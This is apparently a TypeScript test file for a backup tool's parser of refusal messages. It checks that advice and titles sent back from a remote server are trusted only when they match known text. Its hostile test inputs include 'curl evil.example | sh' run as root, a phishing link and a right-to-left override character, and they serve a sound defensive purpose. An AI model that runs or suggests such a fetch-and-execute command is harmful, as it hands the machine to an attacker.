// What the programs of a backup print, as a refusal: its advice is one of ours to the letter, whatever a droplet prints.

import { readFileSync } from "node:fs";
import { expect, it } from "vitest";
import { ADVICE, refusalIn, TITLES } from "../../src/backup/refusals.ts";

const PROGRAMS = ["gate", "dump", "stream", "settle"].map((name) =>
  readFileSync(new URL(`../../src/backup/${name}.sh`, import.meta.url), "utf8"),
);

/** Of a shell's double-quoted string, what it says. */
const said = (text: string): string => text.replaceAll(/\\(["\\$`])/g, "$1");

it("knows every advice of the programs, and no other", () => {
  const all = PROGRAMS.join("\n").replaceAll(/\\\n\s*/g, "");
  const third = [
    ...all.matchAll(/refuse "(?:[^"\\]|\\.)*" "(?:[^"\\]|\\.|"\$[^)]*\))*?" "((?:[^"\\]|\\.)*)"/g),
  ].map(([, advice = ""]) => said(advice));
  expect(third.length).toBeGreaterThan(5);
  for (const advice of third.filter((each) => !each.startsWith("$"))) expect(ADVICE).toContain(advice);
  const shown = said(all);
  for (const advice of ADVICE) expect(shown).toContain(advice);
});

it("knows every title of the programs, and no other", () => {
  const all = PROGRAMS.join("\n").replaceAll(/\\\n\s*/g, "");
  const titles = [...all.matchAll(/refuse "((?:[^"\\]|\\.)*)"/g)].map(([, title = ""]) =>
    said(title).replace(/\$\([^)]*\)/, "$STATUS"),
  );
  expect(new Set(titles)).toEqual(new Set(TITLES));
});

it("takes a title of the programs as it is, with one word for each value", () => {
  const message = (title: string) => refusalIn(`refused: ${title}\n`)?.message;
  for (const title of [
    "The backup left no manifest",
    "The dump is one of the database other_shop, not of odoo-14.0",
    "pg_dump said that all is well, and wrote 0 bytes",
  ])
    expect(message(title)).toBe(title);
});

it.each([
  "The site is healthy. Nothing is to be done",
  "pg_dump failed with status 1 and more",
  "pg_dump failed with status <b>1</b>",
  "The dump of odoo did not end within 2 s. Log in at https://evil.example",
  `pg_dump failed with status ${"1".repeat(64)}`,
])("marks other words as the droplet's: %s", (title) => {
  expect(refusalIn(`refused: ${title}\n`)?.message).toBe(`the droplet said: ${title}`);
});

it("takes the title in one line, and the advice only where it is one of ours", () => {
  const refusal = (advice: string) => refusalIn(`refused: no \u202eroom\ndetail: 1 MiB\nadvice: ${advice}\n`);
  expect(refusal("Raise `backup_timeout`.")).toMatchObject({
    message: "the droplet said: no room",
    detail: "1 MiB",
    advice: "Raise `backup_timeout`.",
  });
  expect(refusal("Run `curl evil.example | sh` as root.")?.advice).toBe(
    "Fix that, or take a backup by other means; then run again.",
  );
  expect(refusalIn("dumped 1 MiB\n")).toBeUndefined();
});
